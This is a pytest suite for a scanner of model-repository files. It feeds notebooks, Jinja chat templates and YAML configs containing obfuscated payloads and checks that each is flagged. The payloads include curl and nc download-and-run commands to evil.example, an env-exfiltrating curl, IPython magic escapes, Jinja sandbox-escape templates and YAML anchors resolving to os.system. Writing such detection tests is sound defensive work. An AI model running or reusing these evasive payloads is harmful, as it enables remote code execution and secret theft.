"""The same effect, written in another way: commands, cells, templates and configurations that once were clean."""

from __future__ import annotations

import json

import pytest

from build.inspecting import scanned

FETCHED = "http://evil.example/x"
COMMANDS = [
    f"cu''rl {FETCHED} | s''h",
    f"c\\url {FETCHED} | s\\h",
    f"cu\\\nrl {FETCHED} | s\\\nh",
    f'source /dev/stdin <<< "$(curl {FETCHED})"',
    f"curl {FETCHED} | xargs -I{{}} sh -c {{}}",
    f"curl {FETCHED} | busybox sh",
    f"curl {FETCHED} | sudo -E nohup bash",
    f"curl {FETCHED} | exec sh",
    f"curl {FETCHED} | (sh)",
    f"curl {FETCHED} | {{ sh; }}",
    f"curl {FETCHED} |& bash",
    f"curl {FETCHED} | while read l; do $l; done",
    f"bash < <(curl {FETCHED})",
    f"bash <<< $(curl {FETCHED})",
    "openssl s_client -connect evil.example:1 | sh",
    "nc evil.example 4444 | sh",
    f'curl {FETCHED} -d "$(env)"',
    f"python3 -c 'import urllib.request as u;exec(u.urlopen(\"{FETCHED}\").read())'",
]
LOADS = f"curl {FETCHED} | sh"
CELLS = [
    f"get_ipython().ex(\"import os; os.system('{LOADS}')\")",
    f'get_ipython().run_cell("get_ipython().ex(\\"import os; os.system(\'{LOADS}\')\\")")',
    "get_ipython().ex(\"import urllib.request as u; exec(u.urlopen('http://evil.example/x').read())\")",
    f"%alias fetch {LOADS}\n%fetch",
    f"%sc -l a={LOADS}",
    f"%debug import os; os.system('{LOADS}')",
    f"%rehashx\n%sh -c '{LOADS}'",
]
TEMPLATES = [
    "{{ [lipsum]|map(**{'attribute': messages[0].role ~ 'x'})|list }}",
    "{{ [lipsum]|map(*['attr', '__glob' ~ 'als__'])|list|first }}",
    "{{ [lipsum]|map(**{'attribute': '__globals__'})|list|first }}",
    "{{ [messages]|groupby(attribute=dict(__class__=1)|list|first)|first|first }}",
    "{{ [messages]|join(',', '__class__') }}",
    "{{ [messages]|sort(false, false, '__cla' ~ 'ss__') }}",
    "{% set l = {} %}{% set _ = l.update(a='__cla' ~ 'ss__') %}{{ messages[l.a] }}",
    "{% set l = [] %}{% set _ = l.insert(0, '__cla' ~ 'ss__') %}{{ messages[l.pop()] }}",
    "{% for k in dict(__class__=1) %}{{ messages[k] }}{% endfor %}",
]
CONFIGS = [
    "a: &a _target_\nx:\n  *a : os.system\n",
    "a: &a os.system\nx:\n  _target_: *a\n",
    "a: &a _target_\nb: &b os.system\nx: {*a : *b}\n",
    "a: [&k class_path]\nx:\n  ? *k\n  : os.system\n",
]


def notebook(source: str) -> bytes:
    cell = {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None, "source": source}
    about = {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}}
    return json.dumps({"cells": [cell], "metadata": about, "nbformat": 4, "nbformat_minor": 4}).encode()


@pytest.mark.parametrize("command", COMMANDS)
def test_a_command(command, tmp_path):
    assert scanned(tmp_path, "n.ipynb", notebook(f"%%bash\n{command}")).verdict.value in ("suspicious", "malicious")


@pytest.mark.parametrize("cell", CELLS)
def test_a_cell(cell, tmp_path):
    assert scanned(tmp_path, "n.ipynb", notebook(cell)).verdict.value in ("suspicious", "malicious")


@pytest.mark.parametrize("template", TEMPLATES)
def test_a_template(template, tmp_path):
    assert scanned(tmp_path, "chat_template.jinja", template.encode()).verdict.value in ("suspicious", "malicious")


@pytest.mark.parametrize("config", CONFIGS)
def test_a_configuration(config, tmp_path):
    assert scanned(tmp_path, "config.yaml", config.encode()).verdict.value in ("suspicious", "malicious")


@pytest.mark.parametrize(
    "command",
    [
        "curl -L https://example.org/data.zip -o data.zip && unzip -q data.zip",
        "pip install -q torch \\\n  transformers",
        'for f in *.txt; do wc -l "$f"; done | sort -n',
        "nvidia-smi | grep MiB",
        "env | grep CUDA",
    ],
)
def test_an_ordinary_command_stays_quiet(command, tmp_path):
    assert scanned(tmp_path, "n.ipynb", notebook(f"%%bash\n{command}")).verdict.value == "clean"


@pytest.mark.parametrize(
    ("name", "template"),
    [
        ("join", "{% for m in messages %}{{ m.tools|map(attribute='name')|join(', ') }}{% endfor %}"),
        ("select", "{{ messages|selectattr('role', 'equalto', 'user')|list|length }}"),
        ("sort", "{{ tools|sort(attribute='name')|tojson }}{{ names|unique|join('; ') }}"),
        ("namespace", "{% set ns = namespace(found=false) %}{% if ns.found %}{{ bos_token }}{% endif %}"),
    ],
)
def test_an_ordinary_template_stays_quiet(name, template, tmp_path):
    assert scanned(tmp_path, "chat_template.jinja", template.encode()).verdict.value == "clean", name
